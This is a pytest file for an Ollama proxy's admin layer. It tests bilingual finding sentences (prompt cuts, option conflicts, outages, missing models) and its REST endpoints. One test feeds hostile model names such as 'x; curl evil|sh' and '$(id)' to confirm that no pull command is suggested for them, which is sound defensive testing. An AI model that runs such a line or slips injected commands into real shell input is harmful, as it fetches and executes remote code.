"""Findings as REST tells them: numbers, and a sentence in each language."""

from __future__ import annotations

from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from ollama_proxy.admin.answers import json_errors
from ollama_proxy.admin.estimates import Estimates
from ollama_proxy.admin.findings import sentence
from ollama_proxy.admin.words import LANGUAGES
from ollama_proxy.foretelling import Asked
from ollama_proxy.ids import iso
from ollama_proxy.insights.conflicts import summed_up
from ollama_proxy.insights.estimate import Estimate, Spread
from ollama_proxy.records import FINDINGS, Finding, Occurrence
from tests.admin.support import NOW, WORDS, World, got, served
from tests.storage.calls import make_call


def finding(**fields: Any) -> Finding:
    known: dict[str, Any] = {
        "id": "01.0",
        "kind": "prompt_cut",
        "model": "llama3.2",
        "client": "news.py",
        "other": "nightly_embed.py",
        "detail": None,
        "opened_at": "2026-11-28T10:00:00.000Z",
        "last_at": "2026-11-28T11:00:00.000Z",
        "over": False,
        "count": 12,
        "of": 40,
        "tokens": 34_000,
        "seconds": None,
        "needed": 4700,
        "estimated": True,
        "calls": ["01"],
    }
    return Finding(**known | fields)


def test_a_sentence_says_what_who_how_often_what_it_cost_and_what_to_change() -> None:
    cut = finding(detail=None, tokens_p50=2800, tokens_max=5000)
    assert sentence(cut, WORDS["en"], NOW) == (
        "Ollama cut the prompt of 12 of 40 calls of news.py to llama3.2: typically about 2,800 "
        "tokens lost each, at most about 5,000, about 34,000 tokens in all. In news.py, set "
        "num_ctx to 8192 or more: that should hold them all."
    )
    assert sentence(cut, WORDS["it"], NOW) == (
        "Ollama ha tagliato il prompt di 12 chiamate su 40 di news.py a llama3.2: di solito circa "
        "2.800 token persi per chiamata, al massimo circa 5.000, circa 34.000 token in tutto. In "
        "news.py, impostare num_ctx a 8192 o più: dovrebbe bastare per tutti."
    )


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"count": 1, "tokens": 300}, ": about 300 tokens lost. In news.py, set num_ctx to 8192"),
        (
            {"tokens_p50": 90, "tokens_max": 90, "estimated": False},
            ": mostly 90 tokens lost each, never more, 34,000 tokens in all. ",
        ),
        (
            {"estimated": False, "tokens": 34_567},
            ": 34,567 tokens lost. In news.py, set num_ctx to 5120 or more: that would",
        ),
        ({"estimated": False, "needed": 5120}, " set num_ctx to 6144 or more: that would"),
        # Of prompts of 7,019 tokens 5,563 to 6,517 were estimated.
        ({"needed": 5563}, "set num_ctx to 8192 or more: that should hold them all."),
        (
            {"needed": 6517, "tokens": 4467},
            "about 4,500 tokens lost. In news.py, set num_ctx to 1638",
        ),
        ({"needed": 2048, "kind": "context_full"}, ". In news.py, set a larger num_ctx."),
        ({"needed": None}, " set a larger num_ctx."),
    ],
)
def test_what_to_set_the_context_to_is_said_as_far_as_it_is_known(
    fields: dict[str, Any], said: str
) -> None:
    assert said in sentence(finding(**{"detail": None} | fields), WORDS["en"], NOW)


@pytest.mark.parametrize(
    ("detail", "why", "remedy"),
    [
        (
            "num_ctx 4096 \u2192 8192",
            "news.py asks for num_ctx 8192 and night.py for num_ctx 4096",
            "In night.py, set num_ctx to 8192 instead of 4096.",
        ),
        (
            "num_ctx 8192 \u2192 4096",  # the other way round the same is to be changed
            "news.py asks for num_ctx 4096 and night.py for num_ctx 8192",
            "In news.py, set num_ctx to 8192 instead of 4096.",
        ),
        (
            "num_thread \u2013 \u2192 4, use_mmap false \u2192 true",
            "news.py asks for num_thread 4, use_mmap true and night.py for Ollama's own "
            "num_thread, use_mmap false",
            "In news.py, leave num_thread out (now 4). "
            "Ask for the same use_mmap in news.py and in night.py.",
        ),
        (
            "num_thread 8 \u2192 4",  # the larger is no remedy of what is not a context
            "news.py asks for num_thread 4 and night.py for num_thread 8",
            "Ask for the same num_thread in news.py and in night.py.",
        ),
        (
            "num_ctx \u2013 \u2192 4096",
            "news.py asks for num_ctx 4096 and night.py for Ollama's own num_ctx",
            "Ask for the same num_ctx in news.py and in night.py.",
        ),
    ],
)
@pytest.mark.parametrize("waited", [False, True])
def test_options_that_differ_are_named_with_what_to_change_where(
    detail: str, why: str, remedy: str, waited: bool
) -> None:
    kind, about = ("waited", "reload num_ctx") if waited else ("reload_options", "num_ctx")
    fields: dict[str, Any] = {"other": "night.py", "tokens": None, "seconds": 9.0}
    fields |= {"kind": kind, "detail": about, "options": summed_up([(detail, 1)])}
    said = sentence(finding(**fields), WORDS["en"], NOW)
    assert why in said and said.endswith(remedy)
    assert "{" not in sentence(finding(**fields), WORDS["it"], NOW)


def conflict(*texts: str, **fields: Any) -> Finding:
    options = summed_up((text, 1) for text in texts)
    known: dict[str, Any] = {"other": "night.py", "tokens": None, "seconds": 9.0}
    known |= {"kind": "reload_options", "detail": "num_ctx", "options": options}
    return finding(**known | fields)


def test_of_many_values_a_few_are_named_the_largest_among_them() -> None:
    texts = [f"num_ctx 4096 \u2192 {size}" for size in range(5000, 5700, 100)]
    assert (
        "news.py asks for num_ctx 5000 or 5100 or 5600 or 4 others and night.py for num_ctx 4096: "
    ) in sentence(conflict(*texts), WORDS["en"], NOW)
    assert sentence(conflict(*texts), WORDS["en"], NOW).endswith(
        "In news.py and in night.py, set num_ctx to 5600 "
        "instead of 5000 or 5100 or 4096 or 4 others."
    )
    assert "num_ctx 5000 o 5100 o 5600 o 4 altri" in sentence(conflict(*texts), WORDS["it"], NOW)


def test_who_asks_for_the_largest_alone_changes_nothing() -> None:
    said = sentence(
        conflict("num_ctx 2048 \u2192 8192", "num_ctx 4096 \u2192 8192"), WORDS["en"], NOW
    )
    assert said.endswith("In night.py, set num_ctx to 8192 instead of 2048 or 4096.")
    own = conflict("num_ctx 2048 \u2192 8192", "num_ctx 8192 \u2192 2048", other="news.py")
    assert sentence(own, WORDS["en"], NOW).endswith(
        "In all of these calls, set num_ctx to 8192 instead of 2048."
    )


def test_a_value_that_is_no_number_is_not_lost_among_many() -> None:
    texts = [f"num_ctx 4096 \u2192 {size}" for size in (5000, 5100, 5200, "\u2013")]
    assert sentence(conflict(*texts), WORDS["en"], NOW).endswith(
        "Ask for the same num_ctx in news.py and in night.py."
    )


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_sentence_has_a_bearable_length_whatever_a_client_sends(language: str) -> None:
    long = "x" * 5000
    options = ", ".join(f"option_{n} {'9' * 300} \u2192 {'8' * 300}" for n in range(12))
    found = conflict(options, client=long, other=long + "y", model=long)
    said = sentence(found, WORDS[language], NOW)
    assert len(said) < 1500
    assert "9" in said and "option_2" in said and "option_3" not in said
    evicted = conflict(kind="reload_evicted", detail=long, client=long, model=long)
    assert len(sentence(evicted, WORDS[language], NOW)) < 900


@pytest.mark.parametrize("kind", ["waited", "reload_options"])
def test_options_that_cannot_be_read_are_not_made_up(kind: str) -> None:
    about = "reload num_ctx" if kind == "waited" else "num_ctx"
    for value in (
        "num_ctx 1 \u2192 2, shift x y \u2192 z",
        "a b",
        f"num_ctx {'9' * 30} \u2192 {'8' * 30}",
    ):
        options = summed_up([(value, 1)])
        found = finding(kind=kind, detail=about, options=options, seconds=9.0)
        assert "sk for the same" in sentence(found, WORDS["en"], NOW)


@pytest.mark.parametrize(
    ("count", "of", "english", "italian"),
    [
        (1, 1, "of 1 of 1 call of", "di 1 chiamata su 1 di"),
        (1, 3, "of 1 of 3 calls of", "di 1 chiamata su 3 di"),
        (2, 3, "of 2 of 3 calls of", "di 2 chiamate su 3 di"),
    ],
)
def test_one_is_one(count: int, of: int, english: str, italian: str) -> None:
    found = finding(count=count, of=of)
    assert english in sentence(found, WORDS["en"], NOW)
    assert italian in sentence(found, WORDS["it"], NOW)


def test_what_is_not_known_is_left_out() -> None:
    bare = finding(tokens=None, needed=None, client=None)
    assert sentence(bare, WORDS["en"], NOW) == (
        "Ollama cut the prompt of 12 of 40 calls of an unknown client to llama3.2. "
        "In an unknown client, set a larger num_ctx."
    )


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", FINDINGS)
def test_every_kind_has_its_sentence(kind: str, language: str) -> None:
    said = sentence(finding(kind=kind), WORDS[language], NOW)
    assert ("news.py" in said) is (kind != "outage") and "{" not in said


def test_an_outage_says_when_and_how_many_calls_met_it() -> None:
    met: dict[str, Any] = {
        "kind": "outage",
        "model": None,
        "client": None,
        "other": None,
        "tokens": None,
    }
    met |= {"opened_at": iso(NOW - 600), "last_at": iso(NOW - 180)}
    words = WORDS["en"]
    began, last = words.clock(NOW - 600), words.clock(NOW - 180)
    assert sentence(finding(**met, count=12), words, NOW) == (
        f"Ollama did not answer ({began} \u2013 {last}): 12 calls failed. "
        "Its log says why; if it is down, start it."
    )
    once = finding(**met | {"last_at": met["opened_at"]}, count=1)
    assert sentence(once, WORDS["it"], NOW).startswith(
        f"Ollama non ha risposto ({began}): 1 chiamata non riuscita. "
    )


@pytest.mark.parametrize(
    ("model", "remedy"),
    [
        ("qwen3:14b", "Get it (ollama pull qwen3:14b), or correct the name in signals.py."),
        ("hf.co/Org/Model-GGUF:Q4_K_M", "Get it (ollama pull hf.co/Org/Model-GGUF:Q4_K_M), or"),
        ("x; curl evil|sh", "Correct the name in signals.py."),
        ("-x", "Correct the name in signals.py."),
        ("$(id)", "Correct the name in signals.py."),
    ],
)
def test_a_model_that_is_not_there_says_what_to_do(model: str, remedy: str) -> None:
    missing = finding(kind="model_missing", model=model, client="signals.py", count=14, of=14)
    said = sentence(missing, WORDS["en"], NOW)
    assert said.startswith(f"{model} is not on Ollama: 14 of 14 calls of signals.py failed. ")
    assert remedy in said and ("pull" in said) is ("pull" in remedy)


def test_who_waited_for_whom() -> None:
    waited = finding(kind="waited", tokens=None, seconds=212.0, count=9, client="signals.py")
    assert sentence(waited, WORDS["en"], NOW).startswith(
        "signals.py waited 3\xa0min\xa032\xa0s for nightly_embed.py at llama3.2, in 9 of 40 calls. "
    )


@pytest.mark.parametrize("kind", ["waited", "reload_options"])
def test_a_client_that_is_in_its_own_way_is_named_once(kind: str) -> None:
    said = sentence(finding(kind=kind, other="news.py", seconds=9.0), WORDS["en"], NOW)
    assert said.count("news.py") == 1


async def test_they_are_told_over_rest() -> None:
    world = World()
    world.stored.found = [finding(), finding(id="02.0", client="b.py")]
    async with served(world) as client:
        found = await got(client, "/api/insights?since=1d&client=news.py&limit=1")
        assert [one["id"] for one in found] == ["01.0"]
        assert set(found[0]["text"]) == set(LANGUAGES)
        assert world.stored.asked[-1].client == "news.py"
        assert (await got(client, "/api/insights/02.0"))["client"] == "b.py"
        assert (await client.get("/api/insights/03.0")).status == 404
        assert (await client.get("/api/insights?state=failed")).status == 400
        await got(client, "/api/insights?kind=waited")
        assert world.stored.asked[-1].kind == "waited"
        assert (
            "must be one of prompt_cut,"
            in (await got(client, "/api/insights?kind=x", 400))["error"]
        )


@pytest.mark.parametrize("detail", [None, "cpu", "not_cached", "together", "others"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_what_slowed_a_model_is_said(language: str, detail: str | None) -> None:
    slow = finding(kind="slow_decode", detail=detail, seconds=90.0, tokens=None)
    words = WORDS[language]
    assert sentence(slow, words, NOW).endswith(words.t(f"finding.slow.{detail or 'unknown'}"))


async def test_hidden_kinds_are_told_only_where_they_are_asked_for() -> None:
    world = World(hidden=("waited",))
    async with served(world) as client:
        await got(client, "/api/insights")
        assert world.stored.asked[-1].hidden == ("waited",)
        await got(client, "/api/insights?kind=waited")
        assert not world.stored.asked[-1].hidden


def test_a_hostile_name_stays_a_name() -> None:
    said = sentence(finding(client="x\u202e{model}\n", model="{tokens}"), WORDS["en"], NOW)
    assert "x\\u202e{model}\\u000a to {tokens}:" in said


async def test_an_estimate_over_rest() -> None:
    asked: list[Asked] = []
    spread = Spread(1.5, 3.0)

    def estimate(about: Asked) -> Estimate | None:
        asked.append(about)
        return None if about.model == "new" else Estimate(spread, spread, spread, spread, 2, 40)

    app = web.Application()
    app.middlewares.append(json_errors)
    Estimates(estimate, lambda: {"calls": 7}).add_routes(app)
    async with TestClient(TestServer(app)) as client:
        query = "model=m&prompt_chars=4000&max_tokens=9&client=a.py"
        told = await got(client, f"/api/estimate?{query}")
        assert asked == [Asked("m", 4000, 9, "a.py")]
        assert (told["queue"], told["ahead"], told["calls"]) == ({"p50": 1.5, "p95": 3.0}, 2, 40)
        assert (told["estimated"], told["came_true"]) == (True, {"calls": 7})
        assert "too few calls" in (await got(client, "/api/estimate?model=new", 404))["error"]
        for wrong in ("", "?model=m&prompt_chars=-1", "?model=m&max_tokens=x", "?model=m&state=x"):
            await got(client, f"/api/estimate{wrong}", 400)


async def test_what_a_running_call_still_takes_is_told_before_its_first_byte() -> None:
    world = World()
    running, spread = world.begin(model="m"), Spread(1.5, 3.0)
    async with served(world) as client:
        path = f"/api/requests/{running.id}"
        assert (await got(client, path))["expected"] is None
        world.expected = Estimate(spread, spread, spread, spread, 2, 40)
        told = (await got(client, path))["expected"]
        assert (told["first_token"], told["ahead"]) == ({"p50": 1.5, "p95": 3.0}, 2)
        assert (told["calls"], told["estimated"]) == (40, True)
        running.first_byte = running.started
        assert (await got(client, path))["expected"] is None


async def test_the_calls_of_a_finding_are_told_whether_memory_knows_them_or_not() -> None:
    world = World()
    id, other = world.ended(model="m"), world.ended(model="m")
    old = make_call(model="m")
    recent = world.live.call(id)
    assert recent is not None
    world.stored.rows, world.stored.named = [old, recent], {"07.0": [old.id, id]}
    async with served(world) as client:
        told = await got(client, "/api/requests?finding=07.0")
        assert {one["id"] for one in told} == {old.id, id}
        assert other not in {one["id"] for one in told}
        assert await got(client, "/api/requests?finding=none") == []


async def test_a_call_tells_for_whom_it_waited() -> None:
    world = World()
    id = world.ended(model="m")
    running = world.begin(model="m")
    world.stored.waited = [
        Occurrence(kind="waited", other="a.py", seconds=3.0),
        Occurrence(kind="waited", other="b.py", detail="reload num_ctx 4096 → 8192", seconds=2.5),
        Occurrence(kind="waited", other=None, detail="reload", seconds=2.0),
    ]
    async with served(world) as client:
        assert (await got(client, f"/api/requests/{id}"))["waited_for"] == [
            {"client": "a.py", "kind": "waited", "seconds": 3.0},
            {"client": "b.py", "kind": "reload", "seconds": 2.5},
            {"client": None, "kind": "reload", "seconds": 2.0},
        ]
        assert (await got(client, f"/api/requests/{running.id}"))["waited_for"] == []
        world.stored.broken = True
        assert (await got(client, f"/api/requests/{id}"))["waited_for"] == []


@pytest.mark.parametrize(
    ("tokens", "seconds", "cost"),
    [
        (1, None, "at least 1 token for nothing"),
        (40, 2.0, "at least 40 tokens and 2.0\xa0s for nothing"),
        (None, 2.0, "at least 2.0\xa0s for nothing"),
        (None, None, "an unknown amount for nothing"),
    ],
)
def test_a_cost_is_told_as_far_as_it_is_known(
    tokens: int | None, seconds: float | None, cost: str
) -> None:
    looped = finding(kind="looped", tokens=tokens, seconds=seconds, estimated=False)
    assert f"over and over: {cost}. " in sentence(looped, WORDS["en"], NOW)
